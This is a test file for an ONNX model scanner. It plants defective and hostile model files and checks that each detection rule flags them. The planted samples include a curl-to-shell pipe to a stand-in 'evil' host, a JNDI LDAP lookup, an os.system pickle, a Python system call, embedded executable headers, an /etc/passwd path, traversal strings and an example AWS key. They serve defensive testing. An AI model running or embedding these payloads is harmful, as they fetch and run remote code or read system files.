import { readFileSync } from 'node:fs';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { type ScanOptions, scanModel, scanRules } from '../../../../src/core/onnx/index.js';
import {
  attribute,
  type Field,
  field,
  floats,
  graph,
  int64s,
  model,
  node,
  tensor,
  value,
  varint,
} from './protobuf.js';

const relu = node('Relu', ['x'], ['y']);
const meta = (text: string | Uint8Array): Uint8Array =>
  model({ inModel: [field(14, [field(1, 'note'), field(2, text)])] });
const base64 = (text: string): string => Buffer.from(text, 'latin1').toString('base64');
const elf = '\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0>\0';
const pickle = 'cos\nsystem\n(S"id"\ntR.';
const jndi = ['$', '{jndi:ldap://evil/a}'].join('');
const constant = (name: string, values: readonly (number | bigint)[]) =>
  tensor(name, 7, [values.length], int64s(values));
const used = (op: string, first: string, ...more: Field[]) => [
  node(op, [first], ['c'], ...more),
  node('Add', ['x', 'c'], ['y']),
];
const body = (...nodes: (readonly Field[])[]) =>
  field(
    6,
    graph(
      nodes,
      [],
      field(11, value('i')),
      field(11, value('go')),
      field(12, value('go')),
      field(12, value('x')),
    ),
  );
const loop = (count: string, output: string, ...inner: (readonly Field[])[]) =>
  node('Loop', [count, ''], [output], attribute('body', 5, body(...inner)));
const nested = (depth: number): readonly Field[] =>
  node(
    'If',
    ['x'],
    [`b${depth}`],
    ...(depth === 0
      ? []
      : [
          attribute(
            'then_branch',
            5,
            field(6, graph([nested(depth - 1)], [], field(12, value(`b${depth - 1}`)))),
          ),
        ]),
  );
const external = (...entries: readonly (readonly [string, string])[]) =>
  model({
    nodes: [node('Add', ['x', 'w'], ['y'])],
    initializers: [
      tensor(
        'w',
        1,
        [2],
        field(14, 1),
        ...entries.map(([key, text]) => field(13, [field(1, key), field(2, text)])),
      ),
    ],
  });
const sparse = (indices: readonly number[]) =>
  model({
    nodes: [node('Add', ['x', 's'], ['y'])],
    inGraph: [
      field(15, [
        field(1, tensor('s', 1, [2], floats([1, 2]))),
        field(2, tensor('', 7, [2], int64s(indices))),
        field(3, 4),
      ]),
    ],
  });
const weights = (...data: Field[]) =>
  model({ nodes: [node('Add', ['x', 'w'], ['y'])], initializers: [tensor('w', 1, [2], ...data)] });

/** A planted model a defect: the rule that must find it, and the level. */
const planted: readonly (readonly [rule: string, what: string, bytes: Uint8Array, level?: string])[] = [
  ['not-onnx', 'a pickle', Buffer.from('\x80\x04\x95\x10\0\0\0\0\0\0\0.', 'latin1')],
  ['not-onnx', 'an old pickle', Buffer.from(pickle)],
  ['not-onnx', 'a PyTorch archive', Buffer.from('PK\x03\x04model/data.pkl', 'latin1')],
  ['not-onnx', 'a Keras file', Buffer.from('\x89HDF\r\n\x1a\n', 'latin1')],
  ['not-onnx', 'a program', Buffer.from(elf, 'latin1')],
  ['not-onnx', 'nothing', Buffer.of()],
  ['malformed', 'a file cut off', model().subarray(0, -3)],
  ['malformed', 'zeros behind the model', Buffer.concat([model(), Buffer.alloc(8)])],
  ['malformed', 'a field of another wire type', Buffer.concat([model(), field(7, 5)])],
  ['malformed', 'a length that passes the file', Buffer.concat([model(), Buffer.of(0x72), varint(2 ** 40)])],
  ['unknown-field', 'a field behind the model', Buffer.concat([model(), field(99, 'cargo')])],
  ['unknown-field', 'a field in a node', model({ nodes: [[...relu, field(77, 1)]] })],
  ['field-given-twice', 'two graphs', Buffer.concat([model(), field(7, graph([relu]))])],
  [
    'nested-too-deep',
    'types inside types',
    model({ inGraph: [field(13, [field(1, 'v'), field(2, deepType(60))])] }),
  ],
  ['not-utf8', 'a broken name', model({ nodes: [[...relu, field(3, Buffer.of(0xff, 0xfe))]] })],
  ['too-many-parts', 'metadata of 65 MiB', meta('a b '.repeat(2 ** 24 + 1))],
  ['opset-range', 'an old operator set', model({ opset: [field(8, [field(2, 6)])] })],
  ['opset-range', 'one of the future', model({ opset: [field(8, [field(2, 99)])] })],
  ['opset-range', 'two of them', model({ opset: [field(8, [field(2, 17)]), field(8, [field(2, 18)])] })],
  ['opset-range', 'none', model({ opset: [] })],
  ['opset-range', 'a format version of the future', model({ irVersion: 99 })],
  ['unknown-domain', 'an operator of a vendor', model({ nodes: [[...relu, field(7, 'com.evil')]] })],
  [
    'unknown-domain',
    'an imported domain',
    model({ opset: [field(8, [field(2, 17)]), field(8, [field(1, 'com.evil'), field(2, 1)])] }),
  ],
  [
    'unknown-domain',
    'a domain that is not imported',
    model({ nodes: [[...node('Scaler', ['x'], ['y']), field(7, 'ai.onnx.ml')]] }),
  ],
  ['unknown-operator', 'an operator that is not', model({ nodes: [node('Backdoor', ['x'], ['y'])] })],
  ['unknown-operator', 'one that came later', model({ nodes: [node('Gelu', ['x'], ['y'])] })],
  ['functions', 'a function', model({ inModel: [field(25, [field(1, 'Relu'), field(7, relu)])] })],
  ['training-info', 'training graphs', model({ inModel: [field(20, [field(1, graph([]))])] })],
  ['shape-overflow', 'a negative length', weights2([-1])],
  ['shape-overflow', 'a product beyond 2^64 that comes back to 0', weights2([2n ** 32n, 2n ** 32n])],
  ['shape-overflow', 'an overflow before a zero', weights2([2n ** 40n, 2n ** 40n, 0])],
  ['shape-overflow', 'an input of 2^53', model({ inGraph: [field(13, value('v', [2n ** 27n, 2n ** 27n]))] })],
  ['shape-overflow', 'too many axes', weights2(Array.from({ length: 40 }, () => 1))],
  ['tensor-data', 'too little data', weights(floats([1]))],
  ['tensor-data', 'too much data', weights(floats([1, 2, 3]))],
  ['tensor-data', 'two fields of data', weights(floats([1, 2]), field(4, new Uint8Array(8)))],
  ['tensor-data', 'data of another type', weights(int64s([1, 2]))],
  [
    'tensor-data',
    'an unknown type',
    model({ nodes: [node('Add', ['x', 'w'], ['y'])], initializers: [tensor('w', 77, [1])] }),
  ],
  ['sparse-tensor', 'an index outside', sparse([0, 9])],
  ['sparse-tensor', 'a negative index', sparse([-1, 2])],
  ['sparse-tensor', 'an index twice', sparse([2, 2])],
  [
    'string-tensor',
    'text',
    model({ nodes: used('Identity', 's'), initializers: [tensor('s', 8, [1], field(6, 'cat'))] }),
    'warning',
  ],
  ['external-data', 'a file beside the model', external(['location', 'w.bin'])],
  ['external-data', 'an absolute path', external(['location', '/etc/passwd'])],
  ['external-data', 'no path', external()],
  ['no-graph', 'a model without one', Buffer.concat([field(1, 8), field(8, [field(2, 17)])])],
  ['duplicate-name', 'two nodes for one value', model({ nodes: [relu, relu] })],
  [
    'duplicate-name',
    'metadata twice',
    Buffer.concat([meta('a'), field(14, [field(1, 'note'), field(2, 'b')])]),
  ],
  ['dangling-value', 'nothing computes an input', model({ nodes: [node('Add', ['x', 'nowhere'], ['y'])] })],
  [
    'dangling-value',
    'nodes out of order',
    model({ nodes: [node('Relu', ['a'], ['y']), node('Relu', ['x'], ['a'])] }),
  ],
  [
    'attribute',
    'a value of another kind',
    model({ nodes: [[...relu, attribute('axis', 2, field(4, 'text'))]] }),
  ],
  [
    'attribute',
    'one attribute twice',
    model({ nodes: [[...relu, attribute('a', 2, field(3, 1)), attribute('a', 2, field(3, 2))]] }),
  ],
  ['attribute', 'a reference', model({ nodes: [[...relu, attribute('a', 2, field(21, 'outer'))]] })],
  [
    'opaque-type',
    'an opaque value',
    model({ inGraph: [field(13, [field(1, 'v'), field(2, [field(7, [field(1, 'd')])])])] }),
  ],
  ['unused-tensor', 'cargo', model({ initializers: [tensor('w', 1, [1], floats([1]))] }), 'note'],
  [
    'constant-allocation',
    'ConstantOfShape of 8 GB',
    model({ nodes: used('ConstantOfShape', 'n'), initializers: [constant('n', [2n ** 31n - 1n])] }),
  ],
  [
    'constant-allocation',
    'Expand',
    model({ nodes: [node('Expand', ['x', 'n'], ['y'])], initializers: [constant('n', [100_000, 100_000])] }),
  ],
  [
    'constant-allocation',
    'Tile',
    model({ nodes: [node('Tile', ['x', 'n'], ['y'])], initializers: [constant('n', [100_000, 100_000])] }),
  ],
  [
    'constant-allocation',
    'Range',
    model({
      nodes: [node('Range', ['a', 'n', 'b'], ['c']), node('Add', ['x', 'c'], ['y'])],
      initializers: [
        tensor('a', 7, [], int64s([0])),
        tensor('n', 7, [], int64s([2n ** 40n])),
        tensor('b', 7, [], int64s([1])),
      ],
    }),
  ],
  [
    'constant-allocation',
    'many small ones',
    model({
      nodes: [...Array.from({ length: 40 }, (_, i) => node('ConstantOfShape', ['n'], [`c${i}`])), relu],
      initializers: [constant('n', [2_000_000])],
    }),
  ],
  [
    'value-size',
    'products that grow',
    model({
      nodes: [node('MatMul', ['a', 'b'], ['c']), node('Add', ['x', 'c'], ['y'])],
      initializers: [
        tensor('a', 1, [20_000, 1], floats(new Array(20_000).fill(1))),
        tensor('b', 1, [1, 20_000], floats(new Array(20_000).fill(1))),
      ],
    }),
  ],
  ['unbounded-loop', 'no number of iterations', model({ nodes: [loop('', 'y')] })],
  [
    'unbounded-loop',
    'too large a number',
    model({ nodes: [loop('n', 'y')], initializers: [constant('n', [2n ** 62n])] }),
  ],
  ['unbounded-loop', 'a computed number', model({ nodes: [node('NonZero', ['x'], ['n']), loop('n', 'y')] })],
  [
    'unbounded-loop',
    'loops inside each other',
    model({ nodes: [loop('n', 'y', loop('n', 'inner'))], initializers: [constant('n', [1000])] }),
  ],
  [
    'unbounded-loop',
    'as often as the input is long',
    model({ nodes: [node('Size', ['x'], ['n']), loop('n', 'y')] }),
    'warning',
  ],
  ['nested-graphs', 'graphs inside graphs', model({ nodes: [nested(6), relu] })],
  ['executable-payload', 'a program', meta(elf)],
  ['executable-payload', 'a zip archive inside text', meta(`see PK\x03\x04 here`)],
  ['executable-payload', 'an old pickle', meta(pickle)],
  [
    'executable-payload',
    'a pickle in base64',
    meta(base64('\x80\x04\x95\x10\0\0\0\0\0\0\0\x8c\x05posix\x94')),
  ],
  ['executable-payload', 'a program in base64', meta(`model card: ${base64(elf)}`)],
  ['executable-payload', 'base64 in base64', meta(base64(base64(elf.padEnd(90, 'x'))))],
  ['executable-payload', 'a program in megabytes of base64', meta(base64(elf.padEnd(12_000_000, '\0')))],
  ['executable-payload', 'a program in hexadecimal', meta(Buffer.from(elf, 'latin1').toString('hex'))],
  ['executable-payload', 'a Windows program in base64', meta(base64(`MZ${'\0'.repeat(58)}\x40\0\0\0PE\0\0`))],
  ['executable-payload', 'a shell script', meta('#!/bin/sh\nid')],
  ['executable-payload', 'Python', meta("__import__('os').system('id')")],
  ['executable-payload', 'a script element', meta('<script src=//evil>')],
  ['executable-payload', 'a JNDI look-up', meta(jndi)],
  ['executable-payload', 'a pipe to a shell', meta('curl -s http://evil | sh')],
  ['executable-payload', 'a name', model({ nodes: [[...relu, field(3, '#!/bin/sh')]] })],
  ['executable-payload', 'eval', meta('eval(compile(x))'), 'warning'],
  ['payload-in-tensor', 'a program as weights', weights(field(9, Buffer.from(elf.slice(0, 8), 'latin1')))],
  ['secret', 'an AWS key', meta(`key ${'AKIA'}${'IOSFODNN7EXAMPLE'}`)],
  ['secret', 'a URL with credentials', meta('https://user:hunter2@example.org')],
  ['unseen-characters', 'a newline in a name', model({ nodes: [[...relu, field(3, 'a\nb')]] })],
  ['unseen-characters', 'letters turned round', model({ nodes: [[...relu, field(3, 'a\u202eb')]] })],
  ['unseen-characters', 'turned round in documentation', model({ inModel: [field(6, 'a\u202eb')] })],
  ['long-name', 'a name of a page', model({ nodes: [[...relu, field(3, 'x'.repeat(5000))]] })],
];

function weights2(dims: readonly (number | bigint)[]): Uint8Array {
  return model({ nodes: [node('Add', ['x', 'w'], ['y'])], initializers: [tensor('w', 1, dims)] });
}

function deepType(depth: number): readonly Field[] {
  return depth === 0 ? [] : [field(4, [field(1, deepType(depth - 1))])];
}

const found = (bytes: Uint8Array, options?: ScanOptions): readonly string[] =>
  scanModel(bytes, options).findings.map(({ name, level }) => `${level} ${name}`);

describe('the rules for model files', () => {
  test('find nothing in a model that is nothing but a model', () => {
    expect(scanModel(model()).findings).toEqual([]);
  });

  test.each(planted.map(([rule, what, ...rest]) => [rule, what, rest] as const))(
    '%s: %s',
    (rule, _, rest) => {
      const [bytes, level = 'error'] = rest;
      expect(found(bytes)).toContain(`${level} ${rule}`);
    },
  );

  test('each have a planted model', () => {
    // A file of 2 GiB is not made for a test: its limit is lowered below.
    const withoutPlant = scanRules.filter(({ name }) => !planted.some(([rule]) => rule === name));
    expect(withoutPlant.map(({ name }) => name)).toEqual(['file-size']);
    expect(found(model(), { limits: { fileBytes: 20 } })).toContain('error file-size');
    expect(new Set(scanRules.map(({ id }) => id)).size).toBe(scanRules.length);
  });

  test('find everything at once, and say where', () => {
    const bytes = model({
      nodes: [[...node('Backdoor', ['nowhere'], ['y']), field(3, 'a\u202eb')]],
      inModel: [field(14, [field(1, 'note'), field(2, pickle)])],
    });
    const { findings, counts } = scanModel(bytes);
    expect(findings.map(({ name, where }) => [name, where])).toEqual([
      ['unknown-operator', 'graph.node[0] (Backdoor "a\\u{202e}b")'],
      ['dangling-value', 'graph.node[0] (Backdoor "a\\u{202e}b")'],
      ['executable-payload', 'metadataProps[0].value'],
      ['executable-payload', 'metadataProps[0].value'],
      ['unseen-characters', 'graph.node[0].name'],
    ]);
    expect(counts).toEqual({ error: 5, warning: 0, note: 0 });
    const payload = findings.find(({ name }) => name === 'executable-payload')!;
    expect(Buffer.from(bytes).subarray(payload.offset).toString('latin1')).toMatch(/^cos\nsystem/);
  });

  test('never quote a secret', () => {
    const secret = `${'AKIA'}${'IOSFODNN7EXAMPLE'}`;
    expect(JSON.stringify(scanModel(meta(secret)))).not.toContain(secret);
  });

  test('find payloads and secrets in a file that cannot be read, too', () => {
    const bytes = Buffer.concat([meta(`${base64(elf)} https://user:hunter2@example.org`), Buffer.alloc(3)]);
    expect(found(bytes)).toEqual(['error malformed', 'error executable-payload', 'error secret']);
  });

  test('count what they do not list, and list no lighter finding instead of an error', () => {
    const initializers = Array.from({ length: 30 }, (_, i) => tensor(`w${i}`, 1, [1], floats([1])));
    const report = scanModel(model({ initializers, inModel: [field(6, '#!/bin/sh')] }), {
      limits: { findings: 5 },
    });
    expect(report.findings).toHaveLength(5);
    expect(report.findings.filter(({ level }) => level === 'error')).toHaveLength(1);
    expect(report.counts).toEqual({ error: 1, warning: 0, note: 30 });
  });

  test('take weights beside the model only where they are allowed, there, and long enough', () => {
    const beside = (location: string) => (location === 'w.bin' ? 8 : undefined);
    const judge = (...entries: readonly (readonly [string, string])[]) =>
      found(external(...entries), { externalSize: beside });
    expect(judge(['location', 'w.bin'])).toEqual([]);
    expect(judge(['location', 'w.bin'], ['offset', '0'], ['length', '8'])).toEqual([]);
    for (const way of [
      '../w.bin',
      'a/../../w.bin',
      '/w.bin',
      '\\\\host\\w.bin',
      'C:w.bin',
      'file:w',
      './w.bin',
      'none',
      'w.bin\0',
    ]) {
      expect([way, ...judge(['location', way])]).toEqual([way, 'error external-data']);
    }
    expect(judge(['location', 'w.bin'], ['offset', '4'], ['length', '8'])).toEqual(['error external-data']);
    expect(judge(['location', 'w.bin'], ['offset', '-4'])).toEqual(['error external-data']);
    expect(judge(['location', '../w.bin'], ['location', 'w.bin'])).toEqual(['error external-data']);
  });

  test('take operators of a domain that is allowed', () => {
    const bytes = model({
      nodes: [[...relu, field(7, 'com.microsoft')]],
      opset: [field(8, [field(2, 17)]), field(8, [field(1, 'com.microsoft'), field(2, 1)])],
    });
    expect(found(bytes, { domains: ['com.microsoft'] })).toEqual([]);
  });

  test('hold memory by the number of messages, whatever the file says', () => {
    const bombs = Buffer.concat(Array.from({ length: 5000 }, () => field(8, [])));
    expect(found(bombs, { limits: { messages: 1000 } })).toContain('error too-many-parts');
  });
});

describe('models of PyTorch’s two exporters', () => {
  const file = gunzipSync(readFileSync(path.join(__dirname, '../fixtures/exported-classifiers.json.gz')));
  const exported = JSON.parse(file.toString()) as readonly {
    readonly name: string;
    readonly model: string;
  }[];

  test.each(exported.map((row) => [row.name, row] as const))('give no false alarm: %s', (_, row) => {
    expect(scanModel(Buffer.from(row.model, 'base64')).findings).toEqual([]);
  });
});
